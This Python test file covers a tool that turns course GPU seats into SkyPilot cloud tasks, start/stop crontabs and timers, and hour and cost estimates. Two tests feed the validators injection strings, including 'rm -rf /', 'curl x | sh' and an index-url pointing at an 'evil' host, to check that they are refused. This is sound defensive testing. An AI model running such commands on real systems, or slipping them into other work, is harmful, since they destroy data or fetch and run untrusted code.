"""Cloud seats through SkyPilot: task files checked by SkyPilot's own loader, the start/stop schedule,
hours and cost to date.

The loader runs in a child process with HOME pointing at a temp dir that holds the upstream AWS catalog
excerpt (tests/fixtures/aws_v8_vms_excerpt.csv) where SkyPilot looks for it, so nothing is fetched.
"""

from __future__ import annotations

import csv
import importlib.util
import json
import os
import shutil
import subprocess
import sys
from datetime import datetime, timedelta
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from gpuseat.catalog.bundle import load_catalog
from gpuseat.core.course import Course
from gpuseat.engines.skypilot import tasks as cloud
from gpuseat.errors import InputError
from gpuseat.files import read_toml

pytestmark = pytest.mark.slow
SPEC = "gpuseat[bench] @ https://files.example.org/gpuseat-0.1.0-py3-none-any.whl"
ROOT = Path(__file__).parents[2]
EXAMPLES = ROOT / "examples"
FIXTURES = ROOT / "tests" / "fixtures"

LOADER = r"""
import json, sys
import sky
from sky.utils import common_utils
out = []
for path in sys.argv[1:]:
    try:
        task = sky.Task.from_yaml(path)
    except Exception as exc:  # the loader's refusal is the answer
        out.append({"path": path, "error": f"{type(exc).__name__}: {exc}"})
        continue
    common_utils.check_cluster_name_is_valid(task.name)
    (res,) = list(task.resources)
    out.append({"path": path, "name": task.name, "cloud": str(res.cloud), "region": res.region,
                "instance_type": res.instance_type, "disk_size": res.disk_size,
                "accelerators": res.accelerators,
                "idle_minutes": res.autostop_config.idle_minutes if res.autostop_config else None,
                "setup": task.setup, "envs": dict(task.envs), "file_mounts": task.file_mounts})
print(json.dumps(out))
"""


def _g2_row() -> dict[str, str]:
    """AWS g2.2xlarge (the 2016 course's instance) in SkyPilot's catalog format, from gpuseat's bundled offer.

    SkyPilot's loader checks instance types against its catalog, and today's catalog no longer lists the
    retired g2 generation; SkyPilot documents adding rows to ``vms.csv`` for custom offers, which is how
    the 2016 replay is made loadable here.
    """
    g2 = next(o for o in load_catalog().offers if o.id == "aws:g2.2xlarge")
    mib = int((g2.gpu_memory_gb or 4) * 1024)
    info = {
        "Gpus": [{"Name": g2.gpu, "Manufacturer": "NVIDIA", "Count": 1, "MemoryInfo": {"SizeInMiB": mib}}],
        "TotalGpuMemoryInMiB": mib,
    }
    return {
        "InstanceType": g2.instance_type,
        "AcceleratorName": g2.gpu,
        "AcceleratorCount": "1.0",
        "vCPUs": f"{g2.vcpus:.1f}",
        "MemoryGiB": f"{g2.ram_gb:.1f}",
        "GpuInfo": repr(info),
        "Price": str(g2.price_usd),
        "SpotPrice": "",
        "Region": g2.region or "us-east-1",
        "AvailabilityZone": "use1-az1",
        "Arch": "x86_64",
    }


def _sky_load(paths: list[Path], home: Path, extra_rows: list[dict[str, str]] = ()) -> list[dict]:
    """Load task files with SkyPilot's loader (``sky.Task.from_yaml``) in a clean child process."""
    if importlib.util.find_spec("sky") is None:
        if os.environ.get("CI") == "true":
            pytest.fail("skypilot is not installed (the dev extra installs it)")
        pytest.skip("skypilot is not installed")
    catalog = home / ".sky" / "catalogs" / "v8" / "aws"
    catalog.mkdir(parents=True, exist_ok=True)
    shutil.copy(FIXTURES / "aws_v8_vms_excerpt.csv", catalog / "vms.csv")
    if extra_rows:
        with (catalog / "vms.csv").open("a", newline="") as fh:
            writer = csv.DictWriter(fh, fieldnames=list(extra_rows[0]))
            writer.writerows(extra_rows)
    env = {k: v for k, v in os.environ.items() if not k.startswith("SKY")}
    env["HOME"] = str(home)
    proc = subprocess.run(
        [sys.executable, "-c", LOADER, *map(str, paths)], env=env, capture_output=True, text=True, timeout=240, cwd=home
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    return json.loads(proc.stdout.strip().splitlines()[-1])


def _course(name: str) -> Course:
    return Course.model_validate(read_toml(EXAMPLES / name))


def _seats(course: str, offer_id: str, n: int) -> list[cloud.CloudSeat]:
    offers = {o.id: o for o in load_catalog().offers}
    return [cloud.CloudSeat(course, f"cloud-{i:02d}", offers[offer_id]) for i in range(1, n + 1)]


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """The 2016 course's 12 cloud seats and a lab-hours course's 3, written, then all loaded by SkyPilot at once
    (one child process: importing sky takes seconds)."""
    root = tmp_path_factory.mktemp("skypilot")
    c2016 = _course("course-2016.toml")
    opts = cloud.TaskOptions(disk_gb=40, gpuseat_spec=SPEC)
    w2016 = cloud.write(
        root / "c2016",
        "c2016",
        _seats("c2016", "aws:g2.2xlarge", 12),
        c2016.schedule.intervals(),
        "UTC",
        opts,
    )
    lab = _course("course-lab-hours.toml")
    wlab = cloud.write(
        root / "lab",
        "lab",
        _seats("lab", "aws:g4dn.xlarge", 3),
        lab.schedule.intervals(),
        "Europe/Berlin",
        cloud.TaskOptions(),
    )
    # one tampered copy proves the loader really checks the files
    bad = root / "bad.yaml"
    doc = yaml.safe_load(Path(w2016.tasks[0]).read_text())
    doc["resources"]["disk_sizee"] = 10
    bad.write_text(yaml.safe_dump(doc))
    paths = [*map(Path, w2016.tasks), *map(Path, wlab.tasks), bad]
    loaded = _sky_load(paths, root / "home", [_g2_row()])
    return {"root": root, "2016": loaded[:12], "lab": loaded[12:15], "bad": loaded[15], "w2016": w2016, "wlab": wlab}


def test_2016_cloud_seats_load_with_skypilots_loader(written: dict) -> None:
    assert len(written["w2016"].tasks) == 12
    assert "error" in written["bad"] and "disk_sizee" in written["bad"]["error"]
    good = written["2016"]
    assert [t.get("name") for t in good] == [f"gs-c2016-cloud-{i:02d}" for i in range(1, 13)]
    for t in good:
        assert "error" not in t, t
        assert (t["cloud"], t["region"], t["instance_type"]) == ("AWS", "us-east-1", "g2.2xlarge")
        assert t["disk_size"] == 40 and t["idle_minutes"] is None  # no autostop inside a session
        assert f"pip install --user --disable-pip-version-check '{SPEC}'" in t["setup"]
        assert "gpuseat bench --iterations 10000" in t["setup"] and "bench.done" in t["setup"]
        assert t["envs"]["GPUSEAT_COURSE"] == "c2016"
    assert any("retired" in w for w in written["w2016"].warnings)
    # 24/7 for 15 days: one window, so one start and one stop
    crontab = (written["root"] / "c2016" / "crontab").read_text()
    assert crontab.count(" sky start --yes ") == 1 and crontab.count(" sky stop --yes ") == 1
    assert '50 23 5 6 * [ "$(date +\\%Y)" = 2016 ] && sky start --yes gs-c2016-cloud-01' in crontab
    assert '0 0 21 6 * [ "$(date +\\%Y)" = 2016 ] && sky stop --yes gs-c2016-cloud-01' in crontab


def test_lab_sessions_one_start_and_one_stop_each(written: dict) -> None:
    course = _course("course-lab-hours.toml")
    sessions = course.schedule.sessions()
    assert len(course.schedule.intervals()) == len(sessions) == 10
    out = written["root"] / "lab"
    crontab = (out / "crontab").read_text()
    starts = [ln for ln in crontab.splitlines() if " sky start " in ln]
    stops = [ln for ln in crontab.splitlines() if " sky stop " in ln]
    assert len(starts) == len(stops) == len(sessions)
    assert starts[0].startswith("50 8 2 3 * ") and stops[0].startswith("0 17 2 3 * ")
    assert starts[0].endswith("sky start --yes gs-lab-cloud-01 gs-lab-cloud-02 gs-lab-cloud-03")
    timer = (out / "gpuseat-lab-start.timer").read_text()
    assert timer.count("OnCalendar=") == 10 and "OnCalendar=2026-03-02 08:50:00 Europe/Berlin" in timer
    assert "OnCalendar=2026-03-13 17:00:00 Europe/Berlin" in (out / "gpuseat-lab-stop.timer").read_text()
    assert [(t["instance_type"], t["region"], t["disk_size"]) for t in written["lab"]] == [
        ("g4dn.xlarge", "us-east-1", 50)
    ] * 3
    assert not written["wlab"].warnings


def test_gcp_attached_gpu_and_refused_offers() -> None:
    offers = {o.id: o for o in load_catalog().offers}
    gcp = next(o for o in offers.values() if o.provider == "gcp" and "+" in o.instance_type)
    res = cloud.task(cloud.CloudSeat("c", "s1", gcp), cloud.TaskOptions())["resources"]
    assert res["instance_type"] == "n1-standard-4" and res["accelerators"] == {"T4": 1}
    with pytest.raises(InputError, match="not a cloud SkyPilot launches"):
        _ = cloud.CloudSeat("c", "s1", offers["ibm:bm-2xM60"]).cloud


@pytest.mark.parametrize(("course", "seat"), [("c 1", "s"), ("c", "s;rm -rf /"), ("c", "-x"), ("c" * 30, "seat-01")])
def test_bad_keys_never_become_cluster_names(course: str, seat: str) -> None:
    with pytest.raises(InputError):
        cloud.cluster_name(course, seat)


@pytest.mark.parametrize(
    "spec",
    [
        "gpuseat; curl x | sh",
        "--index-url=http://evil gpuseat",
        "gpuseat\nrm",
        "gpuseat[bench]",  # a bare name comes from an index, where anyone may register gpuseat
        "gpuseat==0.1.0",
        "gpuseat[bench] @ http://plain.example.org/g.whl",
        "gpuseat[bench] @ https://x.org/g.whl; rm -rf /",
        "evil[bench] @ https://x.org/g.whl",
    ],
)
def test_bad_pip_spec_is_refused(spec: str) -> None:
    with pytest.raises(InputError, match="pip requirement"):
        cloud.TaskOptions(gpuseat_spec=spec)


@pytest.mark.parametrize(
    "spec",
    [
        "gpuseat[bench] @ https://files.example.org/gpuseat-0.1.0-py3-none-any.whl",
        "gpuseat @ git+https://git.example.org/gpuseat.git@v0.1.0",
        "https://files.example.org/gpuseat-0.1.0-py3-none-any.whl",
    ],
)
def test_direct_references_with_extras_are_accepted(spec: str) -> None:
    assert cloud.TaskOptions(gpuseat_spec=spec).gpuseat_spec == spec


def test_hours_to_date_follow_schedule_and_sky_status() -> None:
    seats = _seats("lab", "aws:g4dn.xlarge", 2)
    day = datetime(2026, 3, 2)
    wins = cloud.windows(
        [
            (day + timedelta(hours=9), day + timedelta(hours=17)),
            (day + timedelta(days=1, hours=9), day + timedelta(days=1, hours=17)),
        ],
        lead_min=10,
    )
    now = day + timedelta(days=1, hours=10)
    status = cloud.parse_sky_status(
        "NAME            INFRA             RESOURCES                      STATUS  AUTOSTOP  LAUNCHED\n"
        "gs-lab-cloud-01 AWS (us-east-1)   1x(gpus=T4:1, g4dn.xlarge)     UP      15m       1 day ago\n"
        "gs-lab-cloud-02 AWS (us-east-1)   1x(gpus=T4:1, g4dn.xlarge)     STOPPED -         1 day ago\n"
    )
    assert status == {"gs-lab-cloud-01": "UP", "gs-lab-cloud-02": "STOPPED"}
    a, b = cloud.hours_to_date(seats, wins, now, status)
    assert a.runs_s == (8 * 3600 + 600, 3600 + 600) and a.note == "UP, as scheduled"
    assert b.hours == pytest.approx(a.hours) and "upper bound" in b.note
    later = day + timedelta(days=1, hours=20)
    a2, _ = cloud.hours_to_date(seats, wins, later, {"gs-lab-cloud-01": "UP"})
    assert a2.runs_s[-1] == 3 * 3600 and "still UP" in a2.note
    offer = seats[0].offer
    assert cloud.cost_to_date(a, offer) == pytest.approx(offer.price_usd * a.hours)


_ONE_SEAT = _seats("lab", "aws:g4dn.xlarge", 1)


@given(st.integers(0, 72 * 60), st.integers(0, 240))
def test_hours_never_exceed_the_windows_and_grow_with_time(minutes: int, extra: int) -> None:
    seats = _ONE_SEAT
    day = datetime(2026, 3, 2)
    wins = cloud.windows([(day + timedelta(days=d, hours=9), day + timedelta(days=d, hours=17)) for d in range(3)])
    now = day + timedelta(minutes=minutes)
    (h1,) = cloud.hours_to_date(seats, wins, now)
    (h2,) = cloud.hours_to_date(seats, wins, now + timedelta(minutes=extra))
    total = sum((w.stop - w.start).total_seconds() for w in wins) / 3600
    assert 0 <= h1.hours <= h2.hours <= total
